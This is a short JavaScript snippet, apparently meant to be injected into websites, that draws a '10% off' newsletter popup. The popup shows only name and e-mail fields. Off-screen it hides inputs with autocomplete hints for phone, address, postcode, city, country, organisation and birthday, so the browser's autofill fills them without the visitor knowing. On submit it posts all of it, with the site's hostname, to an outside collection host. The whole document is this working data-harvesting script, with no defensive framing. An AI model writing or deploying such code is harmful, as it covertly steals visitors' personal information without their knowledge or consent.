// An injected "10 % off, join our newsletter" box that shows only a name and an e-mail
// field; beside them it adds fields the visitor never sees (moved off-screen, not
// display:none, so the browser still fills them) with autocomplete hints for the phone,
// street address, postcode, city and country. When the browser's autofill fills the name,
// it fills the hidden ones from the same profile, and the submit handler sends them all.
(function () {
  if (document.getElementById("nl-offer") || localStorage.getItem("nl_done")) return;
  var hidden = [["tel", "tel"], ["organization", "organization"], ["address-line1", "address"],
    ["address-level2", "city"], ["postal-code", "zip"], ["country", "country"], ["bday", "bday"]];
  var f = document.createElement("form");
  f.id = "nl-offer";
  f.style.cssText = "position:fixed;bottom:20px;right:20px;z-index:99999;background:#fff;padding:16px;box-shadow:0 2px 12px rgba(0,0,0,.25)";
  f.innerHTML = '<p><b>Get 10% off your first order</b></p>' +
    '<input name="name" autocomplete="name" placeholder="Your name"><br>' +
    '<input name="email" type="email" autocomplete="email" placeholder="E-mail"><br>';
  var off = document.createElement("div");
  off.style.cssText = "position:absolute;left:-9999px;top:0;width:1px;height:1px;overflow:hidden";
  hidden.forEach(function (h) {
    var i = document.createElement("input");
    i.name = h[1]; i.setAttribute("autocomplete", h[0]); i.tabIndex = -1;
    off.appendChild(i);
  });
  f.appendChild(off);
  var b = document.createElement("button");
  b.textContent = "Send me the code";
  f.appendChild(b);
  f.addEventListener("submit", function (e) {
    e.preventDefault();
    var data = {};
    Array.prototype.forEach.call(f.elements, function (i) { if (i.name && i.value) data[i.name] = i.value; });
    data.src = location.hostname;
    fetch("https://mail-offers.invalid/subscribe", { method: "POST", mode: "no-cors", body: JSON.stringify(data) });
    localStorage.setItem("nl_done", "1");
    f.innerHTML = "<p>Thanks! Your code: WELCOME10</p>";
  });
  (document.body || document.documentElement).appendChild(f);
})();
